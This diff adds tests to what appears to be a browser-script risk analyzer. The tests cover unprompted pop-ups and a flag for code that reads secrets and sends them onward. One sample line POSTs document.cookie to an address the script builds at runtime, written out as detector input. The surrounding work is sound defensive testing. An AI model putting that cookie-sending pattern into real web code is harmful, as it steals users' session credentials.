@@ -96,6 +96,31 @@ describe("the length of a program", () => {
 	});
 });
 
+describe("pages that a long program opens", () => {
+	const opens = `open("https://offers.stranger.test/")`;
+
+	test("by a handler, which mostly is of a control of its own, are no ground for a look", () => {
+		expect(levelOf(lengthened(on(`document.querySelector("#help").onclick = () => ${opens};`)))).toBe("green");
+	});
+
+	test.each([`document.onclick = () => ${opens};`, `addEventListener("mousedown", () => ${opens});`, `${opens};`])(
+		"on any click, or by itself, are: %s",
+		(body) => {
+			expect(levelOf(lengthened(on(body)))).toBe("amber");
+		},
+	);
+});
+
+test("a long program that sends a secret to an address which it builds is told by both facts", () => {
+	const body = `fetch(unfold(1), { method: "POST", body: document.cookie }).then((r) => r.json()).then(console.log);`;
+	const { vulnerabilities } = analyzeScript({ code: lengthened(on(body)) });
+	expect(vulnerabilities.find(({ type }) => type === "capability-pair")).toMatchObject({
+		severity: "medium",
+		description:
+			"Reads document.cookie and sends requests to a place that cannot be told from the code. Whether the data goes to another site could not be checked: the script builds the address while it runs.",
+	});
+});
+
 describe("a path over a long way in a long program", () => {
 	const far = (from: string, to: string) => {
 		const [body = "", ...fillers] = lengthened("").split("\n");
